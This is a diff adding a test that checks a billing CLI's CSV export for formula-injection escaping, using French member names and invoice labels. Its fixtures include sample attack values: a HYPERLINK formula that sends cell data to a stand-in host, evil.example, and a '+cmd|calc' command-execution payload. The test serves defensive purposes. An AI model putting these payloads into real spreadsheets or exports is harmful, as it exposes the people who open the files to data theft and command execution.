@@ -102,3 +102,36 @@ describe('bill export --format csv: the accountant\'s month', () => {
   });
 });
 
+
+describe('formula injection (issue 28, item 10; OWASP "CSV injection")', () => {
+  it('names and labels beginning with = + - @ tab or CR come out as text, not formulas; amounts stay numbers', async () => {
+    const dir = tempDir();
+    const db = path.join(dir, 'club.db');
+    const conn = openDatabase(db);
+    const names = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', '+33 1 23', '-2+3', '@SUM(A1:A9)', '\tTab', '\rRetour'];
+    const labels = ['=1+1', '+cmd|calc', '-x', '@x', '\tx', 'Abonnement'];
+    for (let k = 0; k < names.length; k++) {
+      const m = insertMember(conn, { firstName: names[k]!, lastName: 'Durand' });
+      issue(conn, m, '2026-12-01', [{ kind: 'charge', label: labels[k]!, period: null, ttcCents: 1_000 }]);
+    }
+    const credited = conn.sqlite.prepare('select id from invoices order by id limit 1').pluck().get() as number;
+    writeTx(conn, (tx) => issueCreditNote(tx, testActor, { invoiceId: credited, issuedOn: '2026-12-20', lines: [{ kind: 'credit', label: 'Geste', ttcCents: 500 }] }));
+    conn.close();
+    for (const french of [false, true]) {
+      const out = path.join(tempDir(), 'compta.csv');
+      const r = await cli(db, ['bill', 'export', '--month', '2026-12', '--format', 'csv', ...(french ? ['--french'] : []), '--out', out]);
+      expect(r.code, r.stderr).toBe(0);
+      const text = fs.readFileSync(out, 'utf8').replace(/^\ufeff/, '');
+      const parsed = Papa.parse<Record<string, string>>(text, { header: true, delimiter: french ? ';' : ',', skipEmptyLines: true });
+      expect(parsed.errors).toEqual([]);
+      const rows = parsed.data;
+      expect(rows).toHaveLength(names.length + 1);
+      for (const row of rows) for (const col of ['member', 'label', 'number', 'period']) expect(row[col]!, `${col}: ${row[col]}`).not.toMatch(/^[=+\-@\t\r]/);
+      // the value is kept, behind a quote: a spreadsheet shows it as typed
+      expect(rows.map((r) => r.member)).toEqual(expect.arrayContaining(names.map((n) => `'${n} Durand`)));
+      expect(rows.map((r) => r.label)).toEqual(expect.arrayContaining(["'=1+1", "'+cmd|calc", "'-x", "'@x", "'\tx", 'Abonnement']));
+      // the credit note's amounts stay negative numbers
+      expect(rows.find((r) => r.kind === 'credit_note')!.ttc).toBe(french ? '-5,00' : '-5.00');
+    }
+  });
+});
